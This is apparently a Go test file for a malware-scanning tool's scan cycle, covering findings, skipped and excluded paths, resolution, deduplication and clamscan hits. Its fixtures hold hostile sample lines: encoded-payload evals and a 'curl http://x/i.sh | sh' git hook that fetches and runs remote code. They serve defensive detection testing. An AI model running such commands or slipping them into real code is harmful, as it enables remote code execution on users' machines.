package scanner

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/warden-sh/warden/internal/config"
	"github.com/warden-sh/warden/internal/ledger"
)

func newTestScanner(t *testing.T, root string, run func(ctx context.Context, name string, args ...string) (string, error)) (*Scanner, *ledger.Ledger) {
	t.Helper()
	led, err := ledger.Open(filepath.Join(t.TempDir(), "scan.db"))
	if err != nil {
		t.Fatalf("open ledger: %v", err)
	}
	t.Cleanup(func() { led.Close() })

	cfg := config.ScannerConfig{
		Enabled:          true,
		WatchRoots:       []string{root},
		ExcludeGlobs:     []string{"*/node_modules/*", "*/.git/*"},
		WatchExtensions:  []string{".py", ".sh", ".js"},
		MemoryCeilingMB:  1500,
		MemoryCheckEvery: 1000,
	}
	return New(cfg, led, nil, run, zerolog.Nop()), led
}

func noExternalTools(ctx context.Context, name string, args ...string) (string, error) {
	return "", fmt.Errorf("%s: not installed", name)
}

func TestCycleRecordsFindingAndScannedFile(t *testing.T) {
	root := writeTree(t, map[string]string{
		"worker.py": "result = eval(base64.b64decode(payload))\n",
		"clean.py":  "print('ok')\n",
	})
	s, led := newTestScanner(t, root, noExternalTools)

	stats, err := s.Cycle(context.Background())
	if err != nil {
		t.Fatalf("cycle failed: %v", err)
	}
	if stats.FilesSeen != 2 || stats.FilesScanned != 2 {
		t.Fatalf("unexpected stats %+v", stats)
	}
	if stats.NewFindings != 1 || stats.Critical != 1 {
		t.Fatalf("expected 1 critical finding, got %+v", stats)
	}

	open, err := led.OpenFindingsForFile(filepath.Join(root, "worker.py"))
	if err != nil {
		t.Fatal(err)
	}
	if len(open) != 1 || open[0].Description != "eval of encoded payload" {
		t.Fatalf("unexpected findings %+v", open)
	}

	sf, err := led.GetScannedFile(filepath.Join(root, "clean.py"))
	if err != nil || sf == nil {
		t.Fatalf("clean file should be recorded, got %+v, %v", sf, err)
	}
}

func TestCycleSkipsUnchangedFiles(t *testing.T) {
	root := writeTree(t, map[string]string{"app.py": "print('ok')\n"})
	s, led := newTestScanner(t, root, noExternalTools)

	if _, err := s.Cycle(context.Background()); err != nil {
		t.Fatal(err)
	}
	stats, err := s.Cycle(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if stats.FilesSkipped != 1 || stats.FilesScanned != 0 {
		t.Fatalf("unchanged file should skip analysis, got %+v", stats)
	}

	sf, _ := led.GetScannedFile(filepath.Join(root, "app.py"))
	if sf == nil || sf.ScanCount != 2 {
		t.Fatalf("scan count should track both passes, got %+v", sf)
	}
}

func TestCycleNeverRecordsExcludedPaths(t *testing.T) {
	root := writeTree(t, map[string]string{
		"app.py":                    "print('ok')\n",
		"node_modules/evil/mod.js":  "eval(atob(p))\n",
		".git/hooks/post-update.sh": "curl http://x/i.sh | sh\n",
	})
	s, led := newTestScanner(t, root, noExternalTools)

	if _, err := s.Cycle(context.Background()); err != nil {
		t.Fatal(err)
	}
	for _, rel := range []string{"node_modules/evil/mod.js", ".git/hooks/post-update.sh"} {
		sf, err := led.GetScannedFile(filepath.Join(root, rel))
		if err != nil {
			t.Fatal(err)
		}
		if sf != nil {
			t.Errorf("excluded path recorded: %s", rel)
		}
	}
}

func TestFindingResolvesWhenContentChanges(t *testing.T) {
	root := writeTree(t, map[string]string{"worker.py": "x = eval(base64.b64decode(p))\n"})
	s, led := newTestScanner(t, root, noExternalTools)
	path := filepath.Join(root, "worker.py")

	if _, err := s.Cycle(context.Background()); err != nil {
		t.Fatal(err)
	}
	open, _ := led.OpenFindingsForFile(path)
	if len(open) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(open))
	}

	if err := os.WriteFile(path, []byte("x = decode(p)\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	stats, err := s.Cycle(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if stats.Resolved != 1 {
		t.Fatalf("cleaned file should resolve its finding, got %+v", stats)
	}
	open, _ = led.OpenFindingsForFile(path)
	if len(open) != 0 {
		t.Fatalf("finding still open after resolution: %+v", open)
	}
}

func TestRepeatFindingDoesNotDuplicate(t *testing.T) {
	root := writeTree(t, map[string]string{"worker.py": "x = eval(base64.b64decode(p))\n"})
	s, led := newTestScanner(t, root, noExternalTools)
	path := filepath.Join(root, "worker.py")

	if _, err := s.Cycle(context.Background()); err != nil {
		t.Fatal(err)
	}
	// Touch the file so it re-analyzes but keeps the same flagged line.
	if err := os.WriteFile(path, []byte("x = eval(base64.b64decode(p))\n# touched\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	stats, err := s.Cycle(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if stats.NewFindings != 0 {
		t.Fatalf("re-flagged finding must dedup, got %+v", stats)
	}
	open, _ := led.OpenFindingsForFile(path)
	if len(open) != 1 {
		t.Fatalf("expected the single original finding, got %+v", open)
	}
}

func TestClamscanPositiveBecomesCriticalFinding(t *testing.T) {
	root := writeTree(t, map[string]string{"app.py": "print('ok')\n"})
	infected := filepath.Join(root, "payload.bin")
	if err := os.WriteFile(infected, []byte("junk"), 0o644); err != nil {
		t.Fatal(err)
	}

	run := func(ctx context.Context, name string, args ...string) (string, error) {
		if name == "clamscan" {
			return infected + ": Eicar-Test-Signature FOUND\n", fmt.Errorf("exit status 1")
		}
		return "", fmt.Errorf("%s: not installed", name)
	}
	s, led := newTestScanner(t, root, run)
	s.cfg.ClamscanBin = "clamscan"
	s.tools.clamscan = "clamscan"

	stats, err := s.Cycle(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if stats.Critical == 0 {
		t.Fatalf("malware positive should be critical, got %+v", stats)
	}
	open, _ := led.OpenFindingsForFile(infected)
	if len(open) != 1 || !strings.Contains(open[0].Description, "Eicar") {
		t.Fatalf("unexpected findings %+v", open)
	}
}
